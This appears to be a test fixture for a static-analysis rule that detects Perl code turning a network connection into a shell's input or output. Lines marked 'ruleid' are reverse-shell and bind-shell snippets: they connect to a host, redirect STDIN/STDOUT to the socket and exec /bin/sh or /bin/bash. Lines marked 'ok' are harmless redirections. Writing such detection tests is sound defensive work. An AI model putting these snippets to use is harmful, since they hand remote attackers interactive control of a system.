use Socket;
use POSIX qw(dup2);

socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
connect(S, sockaddr_in(4443, inet_aton($host)));
# ruleid: perl-connection-becomes-shell-stream
open(STDIN, ">&S");
exec("/bin/sh -i");

sub serve {
    my ($client) = @_;
    # ruleid: perl-connection-becomes-shell-stream
    dup2(fileno($client), 0);
    # ruleid: perl-connection-becomes-shell-stream
    open STDOUT, '>&', $client;
    exec '/bin/bash';
}

my $c = IO::Socket::INET->new(PeerAddr => "$host:9000");
# ruleid: perl-connection-becomes-shell-stream
STDIN->fdopen($c, 'r');
# ok: perl-connection-becomes-shell-stream
open(STDOUT, '>', '/var/log/x');
# ok: perl-connection-becomes-shell-stream
open(STDERR, '>&', \*STDOUT);
# ok: perl-connection-becomes-shell-stream
dup2($log, 1);
